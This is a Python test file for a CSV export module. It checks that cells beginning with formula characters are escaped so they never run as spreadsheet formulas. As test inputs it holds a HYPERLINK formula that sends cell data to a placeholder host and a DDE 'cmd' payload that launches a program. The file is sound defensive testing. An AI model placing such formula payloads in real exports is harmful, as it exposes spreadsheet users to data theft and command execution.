"""The one CSV writer of every export: no cell reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from models.templates import FieldValue
from utils.ocr.exports import fields_csv
from utils.ocr.pipeline import DocumentResult
from utils.spreadsheet import csv_text, frame_csv, safe_cell

HYPERLINK = '=HYPERLINK("http://HOST/?x="&A1,"c")'


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"],
)
def test_text_starting_a_formula_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["receipt.png", "TOTAL 12.50", " =not first", "a=b", "", "Δ x"])
def test_other_text_is_kept(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-12.5, 3, 0.0, "-12.50", "+3", "-1e-05", "-.5"])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value


def test_empty_values_are_empty_cells() -> None:
    assert safe_cell(None) == "" and safe_cell(math.nan) == ""
    assert safe_cell(True) == "True"


def test_headers_and_every_cell_are_neutralised_and_round_trip() -> None:
    text = csv_text(
        [HYPERLINK, "ok"], [["-2+3", 'line\nbreak, "quoted"'], [None, -0.25], ["\tx", 7]]
    )

    assert parse(text) == [
        ["'" + HYPERLINK, "ok"],
        ["'-2+3", 'line\nbreak, "quoted"'],
        ["", "-0.25"],
        ["'\tx", "7"],
    ]
    assert text.endswith("\r\n")


def test_frame_csv_writes_columns_then_rows_without_the_index() -> None:
    frame = pd.DataFrame({"name": [HYPERLINK, "plain"], "cer": [0.25, None], "n": [1, 2]})

    assert parse(frame_csv(frame)) == [
        ["name", "cer", "n"],
        ["'" + HYPERLINK, "0.25", "1"],
        ["plain", "", "2"],
    ]


def test_fields_csv_neutralises_every_column_the_error_included() -> None:
    read = DocumentResult(
        file="\t=cmd.png",
        engine="rapidocr",
        fields={"total": FieldValue(value="\r=1+1", confidence=0.9)},
    )
    failed = DocumentResult(file="bad.png", engine="rapidocr", error="@SUM(1)")

    rows = parse(fields_csv([read, failed]))

    assert rows == [
        ["file", "total", "total page", "error"],
        ["'\t=cmd.png", "'\r=1+1", "", ""],
        ["bad.png", "", "", "'@SUM(1)"],
    ]
